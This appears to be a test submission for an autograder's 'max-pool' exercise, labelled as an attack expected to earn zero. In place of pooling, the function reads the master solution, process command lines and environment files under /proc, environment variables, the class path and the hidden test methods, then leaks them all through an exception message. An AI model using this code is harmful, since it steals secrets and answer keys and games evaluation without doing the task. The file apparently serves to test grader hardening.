// attack: reads what it should not (the master notebook, the grader's command line and environment, its class path, the hidden tests) and throws it into its message
// exercise: max-pool
// base: master
// earns: 0
static String read(String path) {
    try {
        return new String(java.nio.file.Files.readAllBytes(java.nio.file.Path.of(path)));
    } catch (Exception e) {
        return "";
    }
}

double[][] maxPool(double[][] x, int window, int stride) {
    StringBuilder found = new StringBuilder();
    found.append(read("${MASTER}"));
    for (int pid = 1; pid < 400; pid++) {
        found.append(read("/proc/" + pid + "/cmdline")).append(read("/proc/" + pid + "/environ"));
    }
    found.append(System.getenv()).append(System.getProperty("java.class.path"));
    try {
        Class<?> tests = Class.forName("org.poolinglab.grading.tests.MaxPoolTests");
        found.append(java.util.Arrays.toString(tests.getDeclaredMethods()));
    } catch (Throwable e) {
        found.append(e);
    }
    throw new IllegalStateException(java.util.Base64.getEncoder().encodeToString(found.toString().getBytes()) + " " + found);
}
